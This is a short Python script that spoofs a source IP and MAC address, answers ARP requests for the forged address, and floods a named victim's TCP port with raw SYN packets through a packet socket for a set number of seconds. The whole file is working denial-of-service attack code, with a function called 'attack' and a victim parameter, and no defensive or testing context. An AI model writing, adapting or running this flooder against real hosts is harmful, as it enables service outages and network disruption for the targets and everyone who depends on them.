# SPDX-License-Identifier: MIT
"""SYNs from an address that never answers, as fast as one processor can send them."""

import socket
import struct
import time

FORGED_MAC = bytes.fromhex("020000000050")


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(mac, ends, ports, seq):
    """A frame to a hardware address; `ends` and `ports` are those of the source and of the destination."""
    source, target = (socket.inet_aton(end) for end in ends)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, source, target)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    segment = struct.pack("!HHIIBBHHH", *ports, seq, 0, 0x50, 2, 65535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    return mac + FORGED_MAC + b"\x08\x00" + header + segment


def answer_arp(listener, forged):
    """The forged address has a MAC, so that answers to it are sent."""
    try:
        while True:
            request = listener.recv(100)
            if request[20:22] == b"\0\1" and request[38:42] == socket.inet_aton(forged):
                reply = b"\0\1\x08\0\6\4\0\2" + FORGED_MAC + request[38:42] + request[22:32]
                listener.send(request[6:12] + FORGED_MAC + b"\x08\x06" + reply)
    except BlockingIOError:
        pass


def attack(seconds, device, mac, forged, victim):
    """Sends for so long by a device to a hardware address, to the victim's address and port; returns how many it has sent."""
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((device, 0))
    listener = socket.socket(socket.AF_PACKET, socket.SOCK_RAW | socket.SOCK_NONBLOCK, socket.htons(0x0806))
    listener.bind((device, 0x0806))
    frames = [syn(mac, (forged, victim[0]), (1024 + i, victim[1]), i * 7919) for i in range(60000)]
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        answer_arp(listener, forged)
        for frame in frames[sent % len(frames):][:512]:
            try:
                sender.send(frame)
                sent += 1
            except OSError:  # the device's queue is full
                pass
    return sent
